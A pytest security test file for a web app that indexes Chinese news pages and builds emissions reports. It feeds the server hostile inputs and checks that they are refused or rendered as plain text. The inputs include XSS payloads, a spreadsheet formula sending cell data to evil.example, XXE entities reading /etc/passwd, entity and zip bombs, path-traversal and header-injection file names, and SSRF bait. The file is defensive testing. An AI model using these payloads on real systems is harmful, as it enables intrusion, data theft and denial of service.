"""What must be refused of what is given to be kept and shown: pages, files, reports, names, judgements, parameters of jobs."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import socket
import threading
import time
import zipfile
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import pytest

from bianyin.app import build_index, ingest
from bianyin.errors import InputError
from web_server import FORM_TOKEN, TOKENS, Serve, Served, Visitor, working

WITH_TOKENS = {"web_tokens": json.dumps(TOKENS)}
BEARER = {"Authorization": f"Bearer {TOKENS['张三']}"}
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
_SECONDS = 240  # generous: only a fault takes so long
_ROWS = "region,sector,date,mt_co2_per_day\n" + "\n".join(
    f"Liaoning,Industry,20{year}-{month:02d}-01,0.{month + 40}"
    for year in (19, 20, 21)
    for month in range(1, 13)
)


class _Found(HTMLParser):
    """What of a page could run, load or lead to a script."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        of = {name: (value or "").strip().lower() for name, value in attrs}
        if tag in ("img", "iframe", "object", "embed", "base", "applet", "frame", "video", "audio"):
            self.found.append(tag)
        if tag == "script" and not of.get("src", "").startswith("/static/"):
            self.found.append(tag)
        for name, value in of.items():
            leads = re.sub(r"[\s\x00-\x20]", "", value).startswith(("javascript:", "vbscript:", "data:text"))
            if name.startswith("on") or (
                leads and name in ("href", "src", "action", "formaction", "xlink:href")
            ):
                self.found.append(f"{tag} {name}={value}")


def harmless(text: str) -> bool:
    assert _Found(text).found == []
    return True


def wait_for(visitor: Visitor, job: str, states: str = "完成|失败|中断|已取消") -> str:
    until = time.monotonic() + _SECONDS
    while not re.search(rf'role="status">({states})', text := visitor.get(job).text):
        assert time.monotonic() < until, text
        time.sleep(0.3)
    return text


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A corpus whose pages were written to harm who reads them, and its index."""
    from bianyin.settings import Settings

    folder = tmp_path_factory.mktemp("hostile")
    body = f"2021年9月28日，辽宁省鞍山市某钢铁公司两座高炉停产检修{SCRIPT}，影响铁水产量8000吨。"
    rows = [
        {"url": f"https://example.org/{at}", "title": title, "text": body + "有关方面表示，后续情况以公布为准，请留意通知。", "site": site}
        for at, (title, site) in enumerate(
            [
                (f"鞍山一钢厂两座高炉停产{SCRIPT}", f"辽宁日报{SCRIPT}"),
                ('=HYPERLINK("http://evil.example/?"&A1,"鞍山高炉停产")', "辽宁日报"),
                ("鞍山高炉停产检修\"' onmouseover='alert(1)", "\" onclick=\"alert(1)"),
                ("鞍山\u202e高炉停产\u200b检修", "@SUM(1+1)*cmd|' /C calc'!A0"),
            ]
        )
    ]  # fmt: skip
    settings = Settings(_env_file=None, corpora=folder / "corpora", vector_store=folder / "vs")
    (folder / "bad.jsonl").write_text(
        json.dumps(rows[0] | {"url": "javascript:alert(1)//example.org"}), "utf-8"
    )
    with pytest.raises(InputError, match="不是网页地址"):
        ingest([folder / "bad.jsonl"], settings)
    (folder / "pages.jsonl").write_text(
        "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), "utf-8"
    )
    (folder / "脚本地址.html").write_text(
        f'<html><head><link rel="canonical" href="javascript:alert(1)"><base href="javascript:alert(2)//"><title>脚本地址</title></head>'
        f'<body><h1>脚本地址</h1><p>{body}</p><p><a href="javascript:alert(3)">脚本地址的链接</a>在这里，其余各段照常写明。</p></body></html>',
        "utf-8",
    )
    ingest([folder / "pages.jsonl", folder / "脚本地址.html"], settings)
    build_index(settings)
    return folder


@pytest.fixture
def lair(serve: Serve, hostile: Path, tmp_path: Path) -> Iterator[Served]:
    """A server on that corpus with a worker."""
    shutil.copytree(hostile / "corpora", tmp_path / "hostile")
    served = serve(corpora=tmp_path / "hostile", vector_store=hostile / "vs", **WITH_TOKENS)
    with working(served):
        yield served


def test_pages_and_reports_of_a_hostile_corpus_are_words(lair: Served) -> None:
    visitor = lair.visitor("张三")
    found = visitor.get("/search", params={"q": "高炉停产"}).text
    assert "&lt;script&gt;" in found and harmless(found)
    for link in dict.fromkeys(re.findall(r'href="(/documents/[0-9a-f]{20})', found)):
        assert harmless(visitor.get(link).text)
    assert harmless(visitor.get("/corpus").text)
    fields = {"region": "辽宁", "sector": "工业", "dates": "2021-10-10", "do": "start"}
    job = visitor.form("/new-report", **fields).headers["location"]
    told = wait_for(visitor, job)
    assert harmless(told)
    report = re.search(r'href="(/reports/[0-9a-f]{16})"', told)
    assert report, told
    shown = visitor.get(report[1]).text
    assert "高炉停产" in shown and harmless(shown)
    _a_review_is_words(visitor, report[1], shown)
    _its_files_do_no_harm(visitor, report[1])


def _a_review_is_words(visitor: Visitor, report: str, shown: str) -> None:
    key = re.search(rf'action="{report}/records/([0-9a-f]{{16}})"', shown)
    assert key
    action = f"{report}/records/{key[1]}"
    said = {"reason": f"不相干{SCRIPT}", "note": f"\"'><svg onload=alert(1)>{SCRIPT}"}
    assert visitor.form(report, action, verdict="reject", **said).status_code == 303
    assert harmless(visitor.get(report).text) and "不相干&lt;script&gt;" in visitor.get(report).text
    refused = visitor.form(report, action, verdict="accept", field="title", words=SCRIPT)
    assert refused.status_code == 400 and harmless(refused.text)
    assert visitor.form(report, action, verdict=SCRIPT).status_code == 400
    assert visitor.form(report, action, verdict="accept", note="a" * 5_000).status_code == 400
    assert harmless(visitor.get(report, params={"reviewed": 1}).text)
    assert visitor.get(f"{report}/files/report.html", params={"reviewed": 1}).headers[
        "content-security-policy"
    ]
    assert visitor.form(report, action, verdict="open").status_code == 303


def _its_files_do_no_harm(visitor: Visitor, report: str) -> None:
    """No cell begins a formula; no download is run or renamed; what is HTML has no origin."""
    rows = csv.reader(io.StringIO(visitor.get(f"{report}/files/records.csv").content.decode("utf-8-sig")))
    cells = [cell for row in rows for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [
        cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@", "\t", "\r") and len(cell) > 1
    ]
    for name in ("records.csv", "records.jsonl", "report.md", "run.json", "report.docx"):
        headers = visitor.get(f"{report}/files/{name}").headers
        assert headers["content-disposition"] == f'attachment; filename="{name}"'
        assert headers["x-content-type-options"] == "nosniff" and "html" not in headers["content-type"]
    whole = visitor.get(f"{report}/files/report.html")
    assert harmless(whole.text) and "sandbox" in whole.headers["content-security-policy"]
    assert "allow-scripts" not in whole.headers["content-security-policy"]
    assert "allow-same-origin" not in whole.headers["content-security-policy"]
    for name in ("report.html%0d%0aSet-Cookie:%20x=1", "records.csv%00.html", "..%2frun.json", "run.json%0a"):
        answer = visitor.get(f"{report}/files/{name}")
        assert answer.status_code == 404 and "x" not in answer.cookies


def test_an_address_of_a_script_is_no_link(lair: Served) -> None:
    visitor = lair.visitor("张三")
    for path in ("/search?q=脚本地址", "/search?q=高炉停产"):
        text = visitor.get(path).text
        assert harmless(text)
        for link in dict.fromkeys(re.findall(r'href="(/documents/[0-9a-f]{20})', text)):
            assert not re.search(r'href="\s*javascript', visitor.get(link).text, re.IGNORECASE)


# Uploads


@pytest.mark.parametrize(
    "name",
    ["../../../etc/cron.d/x.csv", "..\\..\\x.csv", "/etc/passwd.csv", "a\r\nSet-Cookie: x=1.csv", "%2e%2e%2fx.csv", ".csv", "~/x.csv", "CON.csv", "x" * 3_000 + ".csv", "\u202egpj.csv", SCRIPT + ".csv"],
)  # fmt: skip
def test_a_files_name_leads_nowhere(serve: Serve, name: str, tmp_path: Path) -> None:
    served = serve()
    visitor = served.visitor()
    answer = visitor.form("/series", files={"file": (name, _ROWS.encode())})
    assert answer.status_code in (303, 400)
    assert "x" not in answer.cookies
    listed = visitor.get("/series").text
    assert harmless(listed) and "../" not in listed.replace("/static/", "") and "\u202e" not in listed
    assert not [each for each in tmp_path.rglob("*") if each.name in ("x.csv", "x", "passwd.csv")]


def _docx(parts: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in parts.items():
            file.writestr(name, content)
    return packed.getvalue()


_W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_LAUGHS = b'<!DOCTYPE l [<!ENTITY a "ha">' + b"".join(
    b'<!ENTITY %b "%b">' % (bytes([98 + n]), b"&%b;" % bytes([97 + n]) * 10) for n in range(10)
) + b"]>"  # fmt: skip
BOMBS = {
    "bomb.docx": _docx({"[Content_Types].xml": _TYPES, "word/document.xml": b"<a>" + b" " * 300_000_000}),
    "laughs.docx": _docx({"[Content_Types].xml": _TYPES, "word/document.xml": _LAUGHS + b"<w:document %b><w:body><w:p><w:r><w:t>&k;</w:t></w:r></w:p></w:body></w:document>" % _W}),
    "secret.docx": _docx({"[Content_Types].xml": _TYPES, "word/document.xml": b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document %b><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>' % _W}),
    "outside.docx": _docx({"../../../../tmp/outside.txt": b"x", "[Content_Types].xml": _TYPES}),
    "no.docx": b"PK\x03\x04" + b"\x00" * 1_000,
}  # fmt: skip


def test_reports_that_would_burst_or_read_files_are_refused(serve: Serve) -> None:
    """By the worker, which goes on with the next job; nothing of the server is told."""
    served = serve()
    visitor = served.visitor()
    with working(served):
        jobs = [visitor.form("/audits", alone="1", files={"file": each}) for each in BOMBS.items()]
        assert [each.status_code for each in jobs] == [303] * len(BOMBS)
        for each in jobs:
            told = wait_for(visitor, each.headers["location"])
            assert "root:" not in told and "Traceback" not in told and "/tmp" not in told
        good = visitor.form("/audits", alone="1", files={"file": ("r.md", _CLAIM.encode())})
        assert "核查结果" in wait_for(visitor, good.headers["location"])
    assert not Path("/tmp/outside.txt").exists()


def test_tables_that_would_burst_are_refused(serve: Serve) -> None:
    visitor = serve().visitor()
    sheet = b'<?xml version="1.0"?>' + _LAUGHS + b"<workbook>&k;</workbook>"
    wide = b"," * 3_000_000
    for name, content in (
        ("s.xlsx", _docx({"[Content_Types].xml": _TYPES, "xl/workbook.xml": sheet})), ("s.csv", wide), ("s.csv", b"a\n" * 2_000_000),
        ("s.csv", b'"' + b"a" * 5_000_000), ("s.csv", b"\x00" * 500_000), ("s.csv", "\ud800".encode("utf-16", "surrogatepass")),
    ):  # fmt: skip
        answer = visitor.form("/series", files={"file": (name, content)})
        assert answer.status_code == 400, name
        assert "Traceback" not in answer.text and "/tmp" not in answer.text


# Nothing that is given has the server ask elsewhere

_CLAIM = "# 辽宁省 工业\n\n## 转折点: 2021-10-31 (Event) - 置信度: 0.67\n\n1. 《关于有序用电的通知》\n\n- 日期：2021-09-10\n- 来源：https://www.example.gov.cn/a.html\n"


@pytest.fixture
def bait() -> Iterator[tuple[str, list[str]]]:
    """An address on this machine, and who came to it."""
    came: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def listen() -> None:
            while True:
                try:
                    connection, who = listening.accept()
                except OSError:
                    return
                came.append(str(who))
                connection.close()

        threading.Thread(target=listen, daemon=True).start()
        yield f"http://127.0.0.1:{listening.getsockname()[1]}", came
        listening.shutdown(socket.SHUT_RDWR)


def test_nothing_that_is_given_has_the_server_ask_elsewhere(
    serve: Serve, bait: tuple[str, list[str]]
) -> None:
    address, came = bait
    served = serve()
    visitor = served.visitor()
    relation = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="%b/t.dotm" TargetMode="External"/></Relationships>' % address.encode()  # fmt: skip
    entity = b'<!DOCTYPE d SYSTEM "%b/d.dtd" [<!ENTITY %% x SYSTEM "%b/x">%%x;]><w:document %b><w:body/></w:document>' % (
        address.encode(), address.encode(), _W,
    )  # fmt: skip
    files = {
        "r.md": _CLAIM.replace("https://www.example.gov.cn/a.html", f"{address}/a.html").encode() + f"![图]({address}/x.png)".encode(),
        "r.txt": f"见 {address}/ 与 file:///etc/passwd".encode(),
        "r.docx": _docx({"[Content_Types].xml": _TYPES, "word/document.xml": entity, "word/_rels/document.xml.rels": relation}),
    }  # fmt: skip
    with working(served):
        for each in files.items():
            started = visitor.form("/audits", files={"file": each})
            wait_for(visitor, started.headers["location"])
        for sources in ([address], ["file:///etc/passwd"], ["mee", address], ["../mee"], ["127.0.0.1"]):
            job = visitor.post("/api/jobs", json={"kind": "crawl", "sources": sources}).json()
            assert "失败" in wait_for(visitor, f"/jobs/{job['id']}")
    for path in ("/search", "/api/search"):
        visitor.get(path, params={"q": f"{address}/x", "text": f"{address}/x"})
    assert came == []


def test_the_bait_is_one(bait: tuple[str, list[str]]) -> None:
    """So that nobody coming says something."""
    address, came = bait
    socket.create_connection(("127.0.0.1", int(address.rsplit(":", 1)[1])), timeout=60).close()
    until = time.monotonic() + 60
    while not came:
        assert time.monotonic() < until
        time.sleep(0.01)


# Jobs and judgements by scripts


def test_parameters_of_jobs_are_checked_before_they_are_kept(serve: Serve) -> None:
    served = serve(**WITH_TOKENS)
    visitor = served.visitor()
    point = {"date": "2021-10-31", "kind": "Event"}
    good = {"kind": "report", "region": "辽宁", "sector": "工业", "points": [point]}
    for wrong in (
        {"region": SCRIPT}, {"sector": "../../x"}, {"region": "a\x00b"}, {"region": "辽宁\n"}, {"llm": "gpt-evil"}, {"series": "../../etc"},
        {"points_id": "0" * 16}, {"points": [point] * 501}, {"points": [{"date": SCRIPT, "kind": "Event"}]}, {"window_days": 10**9},
        {"points": []}, {"kind": "shell"}, {"lang": "../zh"}, {"max_calls": -1}, {"region": ["辽宁"]}, {"by": "李四"}, {"state": "done"},
        {"report_id": "0" * 16}, {"worker": "x"}, {"points": [point | {"date": "0000-00-00"}]},
    ):  # fmt: skip
        answer = visitor.post("/api/jobs", json=good | wrong, headers=BEARER)
        assert answer.status_code in (400, 404, 422), (wrong, answer.text)
    bodies = (
        b"[" * 100_000,
        b'{"kind": NaN}',
        b"\xff\xfe",
        b"null",
        b"[]",
        b'"report"',
        b'{"kind": 1e999}',
        b"{" * 50_000,
        b"1" * 10_000,
    )
    for body in bodies:
        answer = visitor.post(
            "/api/jobs", content=body, headers=BEARER | {"Content-Type": "application/json"}
        )
        assert answer.status_code in (400, 422), body[:20]
    assert visitor.get("/api/jobs", headers=BEARER).json() == []
    for key in ("a" * 81, "\x00"):
        asked = visitor.post("/api/jobs", params={"key": key}, json=good, headers=BEARER)
        assert asked.status_code in (201, 422)


def test_what_points_say_of_themselves_is_shown_as_words(serve: Serve) -> None:
    visitor = serve().visitor()
    kept = visitor.form("/series", files={"file": ("s.csv", _ROWS.encode())}).headers["location"]
    for name, content in (
        ("p.json", json.dumps([{"date": "2020-06-01", "kind": "Event", "warnings": [{"kind": SCRIPT, "detail": SCRIPT}], "label": SCRIPT}])),
        ("p.csv", f"date,kind,note\n2020-06-01,{SCRIPT},{SCRIPT}\n"), ("p.md", f"## 转折点: 2020-06-01 ({SCRIPT})\n"), ("p.csv", f"date\n{SCRIPT}\n"),
    ):  # fmt: skip
        answer = visitor.form(kept, f"{kept}/points", files={"file": (name, content.encode())})
        assert answer.status_code in (303, 400), answer.text
        shown = visitor.get(answer.headers["location"]).text if answer.status_code == 303 else answer.text
        assert harmless(shown)


def test_forms_without_measure_are_refused(serve: Serve) -> None:
    visitor = serve().visitor()
    token = FORM_TOKEN.search(visitor.get("/new-report").text)
    assert token
    many = {f"f{n}": "a" for n in range(2_000)} | {"form_token": token[1]}
    assert visitor.post("/new-report", data=many).status_code in (400, 413)
    files = [("file", (f"{n}.csv", b"a")) for n in range(30)]
    assert visitor.post("/series", data={"form_token": token[1]}, files=files).status_code == 400
    for kind in (
        "multipart/form-data",
        "multipart/form-data; boundary=",
        f"multipart/form-data; boundary={'x' * 5_000}",
    ):
        answer = visitor.post("/series", content=b"--x\r\n" * 1_000, headers={"Content-Type": kind})
        assert answer.status_code in (400, 403), answer.text


# Of others


def test_nobody_acts_as_somebody_else(serve: Serve) -> None:
    served = serve(**WITH_TOKENS)
    theirs = {"Authorization": f"Bearer {TOKENS['李四']}"}
    script = served.visitor()
    asked = {
        "kind": "report",
        "region": "辽宁",
        "sector": "工业",
        "points": [{"date": "2021-10-31", "kind": "Event"}],
    }
    job = script.post("/api/jobs", params={"key": "一"}, json=asked, headers=BEARER).json()
    same = script.post("/api/jobs", params={"key": "一"}, json=asked, headers=theirs).json()
    assert job["by"] == "张三" and same["by"] == "李四" and same["id"] != job["id"], "a key is its owner's"
    for verb in ("cancel", "resume"):
        assert script.post(f"/api/jobs/{job['id']}/{verb}", headers=theirs).status_code == 403
    one, other = served.visitor("张三"), served.visitor("李四")
    fields = {
        "region": "辽宁",
        "sector": "工业",
        "dates": "2021-10-31",
        "do": "start",
        "once": "0123456789abcdef",
    }
    assert (
        one.form("/new-report", **fields).headers["location"]
        != other.form("/new-report", **fields).headers["location"]
    )
    assert other.form("/new-report", f"/jobs/{job['id']}/cancel").status_code == 403
    assert script.get(f"/api/jobs/{job['id']}", headers=theirs).json()["state"] == "waiting"
    for path in (f"/api/reports/{'0' * 16}/judgements/{'0' * 16}", f"/api/jobs/{'0' * 16}/cancel"):
        said = {"verdict": "accept", "by": "张三", "at": "2020-01-01T00:00:00Z"}
        assert script.post(path, json=said, headers=theirs).status_code in (404, 422)


def test_a_guessed_number_leads_to_nothing(serve: Serve) -> None:
    visitor = serve().visitor()
    for name in (
        "0" * 16,
        "f" * 16,
        "1",
        "0" * 15,
        "g" * 16,
        "0" * 17,
        "..%2f..%2fx",
        "%00" * 16,
        "０" * 16,
        "-1",
        "A" * 16,
    ):
        for path in (
            f"/jobs/{name}",
            f"/reports/{name}",
            f"/series/{name}",
            f"/points/{name}",
            f"/reports/{name}/files/run.json",
            f"/jobs/{name}/events",
        ):
            assert visitor.get(path).status_code in (400, 404), path
        assert visitor.form("/new-report", f"/jobs/{name}/cancel").status_code in (400, 404)
        assert visitor.form("/new-report", f"/reports/{name}/renew").status_code in (400, 404)
